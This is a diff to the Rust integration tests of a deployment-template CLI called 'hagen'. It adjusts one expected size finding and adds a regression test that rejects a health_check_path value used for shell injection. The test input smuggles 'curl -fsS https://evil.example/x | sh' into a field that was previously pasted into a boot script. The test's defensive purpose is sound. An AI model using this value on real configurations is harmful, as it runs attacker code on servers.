@@ -198,9 +198,11 @@ fn synth_prints_yaml_on_stdout_and_only_diagnostics_on_stderr() {
         !err.contains("error"),
         "SwiftCode synthesizes without errors:\n{err}"
     );
-    // Check findings (the template's size against the inline limit) come
-    // as `hagen validate` prints them, placed in the synthesized template.
-    assert!(err.contains("info[HG308]: the template is "), "{err}");
+    // Check findings (the template's size against the inline limit: with
+    // the alarms and log groups of every environment, stage is past it and
+    // deploys through S3) come as `hagen validate` prints them, placed in
+    // the synthesized template.
+    assert!(err.contains("warning[HG308]: the template is "), "{err}");
     assert!(err.contains("  --> <synth>\n"), "{err}");
 }
 
@@ -338,6 +340,29 @@ fn an_unknown_config_key_names_file_line_key_and_suggestion() {
         ))
         .stderr(contains("4 | az_cont = 3"))
         .stderr(contains("= help: did you mean `az_count`?"));
+}
+
+/// Regression: `health_check_path = '/"; curl ... | sh; "'` was pasted into
+/// the instances' root boot script and `hagen synth` exited 0. It is a
+/// configuration error now: file, line, column and key, the exit code of
+/// every configuration error, and no template on stdout.
+#[test]
+fn a_health_check_path_with_shell_syntax_is_refused() {
+    let dir = tempdir();
+    fs::write(
+        dir.path().join("hagen.toml"),
+        "[environments.stage.blueprint]\ncfn_signal = true\nhealth_check_path = '/\"; curl -fsS https://evil.example/x | sh; \"'\n",
+    )
+    .expect("config");
+    hagen(dir.path())
+        .arg("synth")
+        .assert()
+        .code(4)
+        .stdout("")
+        .stderr(contains(
+            "error: hagen.toml:3:21: `environments.stage.blueprint.health_check_path` = ",
+        ))
+        .stderr(contains("boot script"));
 }
 
 #[test]
